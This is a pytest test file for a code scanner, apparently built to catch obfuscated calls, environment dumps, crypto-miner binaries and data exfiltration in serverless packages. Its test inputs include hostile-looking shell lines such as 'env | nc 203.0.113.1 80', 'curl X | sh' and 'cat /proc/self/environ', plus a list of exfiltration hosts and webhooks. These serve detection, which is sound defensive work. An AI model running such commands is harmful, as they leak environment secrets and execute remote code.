"""Front-end building blocks: folding, command rendering, typing by content, the exfil table."""

from __future__ import annotations

import ast

import pytest

from lambdawatch.codescan import taxonomy as tx
from lambdawatch.codescan.classify import language
from lambdawatch.codescan.exfil import service_of_host, service_of_text
from lambdawatch.codescan.flows import _bare_host
from lambdawatch.codescan.hosts import classify
from lambdawatch.codescan.lang_python import parse_python
from lambdawatch.codescan.lang_text import scan_text
from lambdawatch.codescan.model import Severity
from lambdawatch.codescan.pyfold import fold, render
from lambdawatch.codescan.scanner import scan_file


@pytest.mark.parametrize(
    ("src", "value"),
    [
        ('"ex" + "ec"', "exec"),
        ('"cexe"[::-1]', "exec"),
        ('"".join(["sy", "st", "em"])', "system"),
        ("chr(101) + 'val'", "eval"),
        ('base64.b64decode("b3M=").decode()', "os"),
        ('f"{A}-{B}"', "a-b"),
    ],
)
def test_fold_sees_through_built_names(src: str, value: str) -> None:
    assert fold(ast.parse(src, mode="eval").body, {"A": "a", "B": "b"}) == value


@pytest.mark.parametrize("src", ['"ex" + name', "x[::-1]", 'getattr(o, "a")', "name.strip()"])
def test_fold_refuses_unknowns(src: str) -> None:
    assert fold(ast.parse(src, mode="eval").body, {}) is None


@pytest.mark.parametrize(
    ("src", "text"),
    [
        ('["sh", "-c", "env | nc h 1"]', "env | nc h 1"),
        ('["curl", "-d", body, url]', "curl -d X X"),
        ('f"curl {u} | sh"', "curl X | sh"),
        ('"ls %s" % d', "ls %s"),
    ],
)
def test_render_builds_command_lines(src: str, text: str) -> None:
    assert render(ast.parse(src, mode="eval").body, {}) == text


def test_aliases_and_dynamic_imports_resolve() -> None:
    facts = parse_python(
        "import os, builtins\nrun = exec\nx = getattr(builtins, 'ev' + 'al')\n"
        "run(a)\nx(b)\n__import__('subprocess').Popen(c)\nos.environ.get('A')\n"
        "'B' in os.environ\n"
    )
    assert [
        (c.callee, c.line) for c in facts.calls if c.callee in {"exec", "eval", "subprocess.Popen"}
    ] == [("exec", 4), ("eval", 5), ("subprocess.Popen", 6)]
    assert [r.key for r in facts.env_reads] == ["A"]


def test_local_helper_is_a_network_call_only_when_its_body_is() -> None:
    facts = parse_python(
        "import requests\ndef fetch(u):\n    return requests.get(u)\n"
        "def send(x):\n    return x\nfetch('https://a.example')\nsend(1)\n"
    )
    callees = {c.line: c.callee for c in facts.calls}
    assert callees[6] == "requests.get" and callees[7] == "local.send"


@pytest.mark.parametrize(
    ("callee", "net"),
    [
        ("fetch", True),
        ("axios.post", True),
        ("fetch_user", False),
        ("fetchone", False),
        ("local.fetch", False),
        ("requests.get", True),
        ("gotham", False),
        ("got", True),
    ],
)
def test_net_names_match_whole_names(callee: str, net: bool) -> None:
    assert tx.is_net(callee) is net


@pytest.mark.parametrize(
    ("line", "dump"),
    [
        ("env | nc 203.0.113.1 80", True),
        ("printenv > /tmp/e", True),
        ("export -p", True),
        ("x=$(set)", True),
        ("cat /proc/self/environ", True),
        ("declare -px", True),
        ("set -euo pipefail", False),
        ("env FOO=1 ./run", False),
        ("printenv HOME", False),
    ],
)
def test_shell_environment_dumps(line: str, dump: bool) -> None:
    assert ("*" in {r.key for r in scan_text(line, "shell").env_reads}) is dump


def test_heredoc_code_is_parsed_at_its_real_lines() -> None:
    text = "#!/bin/sh\npython3 - <<'EOF'\nimport os\nprint(dict(os.environ))\nEOF\nexec \"$@\"\n"
    facts = scan_text(text, "shell")
    assert ("print", 4) in {(c.callee, c.line) for c in facts.calls}
    assert ("interp:python3", 2) in {(c.callee, c.line) for c in facts.calls}
    assert not any(c.line == 3 and c.callee.startswith("cmd:") for c in facts.calls)


@pytest.mark.parametrize(
    ("path", "head", "lang"),
    [
        ("bootstrap", b"\x7fELF\x02\x01\x01\x00", "binary"),
        ("bin/sync", b"import os\nos.system('id')\n", "python"),
        ("extensions/agent", b"const https = require('https');\n", "js"),
        ("extensions/agent", b"#!/usr/bin/env python3\nprint(1)\n", "python"),
        ("extensions/run", b"curl -s http://x\n", "shell"),
        ("docs/LICENSE", b"import this\n", "data"),
        ("bin/tool.txt", b"import os\n", "data"),
    ],
)
def test_extension_less_files_are_typed_by_content(path: str, head: bytes, lang: str) -> None:
    assert language(path, head) == lang


def test_elf_bootstrap_is_scanned_as_a_binary() -> None:
    blob = b"\x7fELF\x02\x01\x01" + b"\0" * 64 + b"xmrig --donate-level 1\0stratum+tcp://pool\0"
    assert {(f.code, f.severity) for f in scan_file("bootstrap", blob, False, [])} >= {
        ("CS501", Severity.HIGH)
    }


@pytest.mark.parametrize(
    ("host", "listed"),
    [
        ("webhook.site", True),
        ("abc.oast.fun", True),
        ("x-1.ngrok-free.app", True),
        ("a.trycloudflare.com", True),
        ("notwebhook.site", False),
        ("hooks.slack.com", False),
        ("api.github.com", False),
        ("ngrok.io.example.com", False),
    ],
)
def test_exfil_hosts_match_domains_and_subdomains(host: str, listed: bool) -> None:
    assert (service_of_host(host) is not None) is listed


def test_exfil_urls_need_their_path() -> None:
    assert service_of_text("https://discord.com/api/webhooks/1/x") == (
        "Discord webhook (chat webhook)"
    )
    assert service_of_text("https://discord.com/channels/1") is None


@pytest.mark.parametrize(
    ("host", "kind"),
    [("sandbox.localdomain", "private"), ("ec2.internal", "private"), ("evil.example", "external")],
)
def test_sandbox_names_are_not_external(host: str, kind: str) -> None:
    assert classify(host) == kind


@pytest.mark.parametrize(
    ("value", "host"),
    [
        ("x.example.org", True),
        ("evil.ru", True),
        ("203.0.113.5", True),
        ("github.com", True),
        ("react.element", False),
        ("document.all", False),
        ("install.sh", False),
        ("nodejs.util.promisify.custom", False),
        ("bundle.min.js", False),
    ],
)
def test_bare_strings_are_hosts_only_with_a_real_tld(value: str, host: bool) -> None:
    assert bool(_bare_host(value)) is host


def test_tolerant_scan_skips_syntax_that_looks_like_calls() -> None:
    line = "var f=function(a){return atob(a)};if(x){y()}"
    callees = {c.callee for c in scan_text(line, "js").calls}
    assert "function" not in callees and "if" not in callees and "atob" in callees
    assert "Function" in {c.callee for c in scan_text("new Function(atob(p))()", "js").calls}
